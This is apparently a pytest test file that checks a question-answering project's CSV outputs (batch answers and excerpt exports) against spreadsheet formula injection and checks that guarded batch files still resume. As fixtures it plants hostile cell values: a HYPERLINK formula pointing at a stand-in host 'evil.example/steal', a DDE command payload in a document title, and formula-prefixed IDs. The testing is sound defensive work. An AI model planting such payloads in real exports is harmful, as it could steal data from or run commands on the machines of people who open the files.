"""Issue 15: no CSV the project writes makes a spreadsheet run a formula, whatever a document,
a catalog or a question file holds: the batch answers (CLI and web) and the excerpt export
share one guard, and a guarded batch file still resumes."""
import csv
import io
import os
import subprocess
import sys

import pytest
from conftest import ROOT

from qa.config import load_settings
from qa.outputs.spreadsheet import uncell

pytestmark = pytest.mark.slow

HOSTILE_LINE = ('=HYPERLINK("http://evil.example/steal","Cumbria Constabulary trained 640 officers '
                'in domestic abuse risk assessment during 2023.")')
DOCUMENT = f"""---
title: "=cmd|'/c calc'!A1"
organisation: "@SUM(1+1)"
force: Cumbria
doc_type: force response
published: 2024-03-01
---
Cumbria Constabulary training update

{HOSTILE_LINE}

The force also reviewed its missing children procedures in 2023 and appointed a new lead.
"""
QUESTIONS = ("id,question\n"
             "-1,How many officers did Cumbria train in domestic abuse risk assessment?\n"
             "'2,+1 what did Cumbria review about missing children?\n"
             "=3,@A1 what did Cumbria review?\n")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, embedder):
    from qa.ingest.build import ingest
    base = tmp_path_factory.mktemp("hostile")
    (base / "corpus").mkdir()
    (base / "corpus" / "cumbria.md").write_text(DOCUMENT, encoding="utf-8")
    settings = load_settings(environ={}, corpus=base / "corpus", index=base / "index")
    assert ingest(settings, embedder=embedder).indexed == 1
    return base, settings


def runs_a_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_START)


def batch(base, settings, out):
    env = dict(os.environ, PYTHONPATH=str(ROOT), QA_CORPUS=str(settings.corpus))
    return subprocess.run([sys.executable, "-m", "qa", "batch", str(base / "q.csv"), "-o",
                           str(out), "--index", str(settings.index)], capture_output=True,
                          text=True, cwd=ROOT, env=env, timeout=300)


def test_batch_csv_cells_never_run_and_the_file_still_resumes(hostile, tmp_path):
    base, settings = hostile
    (base / "q.csv").write_text(QUESTIONS, encoding="utf-8")
    out = tmp_path / "answers.csv"
    r = batch(base, settings, out)
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))[1:]
    assert [c for row in rows for c in row if runs_a_formula(c)] == []
    assert [uncell(row[0]) for row in rows] == ["-1", "'2", "=3"]  # nothing lost, nothing added
    assert uncell(rows[0][2]).startswith('=HYPERLINK("http://evil.example/steal"')
    assert uncell(rows[1][1]).startswith("+1 what did Cumbria")
    again = batch(base, settings, out)
    assert "0 answered now, 3 already in" in again.stdout, again.stdout + again.stderr


def test_excerpt_csv_cells_never_run(hostile):
    from qa.ask.engine import Engine
    from qa.outputs.export import to_csv
    from qa.types import Filters
    from qa.web.excerpts import search
    base, settings = hostile
    items, _ = search(Engine.open(settings), "domestic abuse risk assessment training",
                      Filters())
    rows = list(csv.reader(io.StringIO(to_csv(items))))[1:]
    assert rows and [c for row in rows for c in row if runs_a_formula(c)] == []
    header = list(csv.reader(io.StringIO(to_csv(items))))[0]
    first = dict(zip(header, rows[0]))
    assert uncell(first["title"]) == "=cmd|'/c calc'!A1" and HOSTILE_LINE in first["excerpt"]
    assert uncell(first["organisation"]) == "@SUM(1+1)"
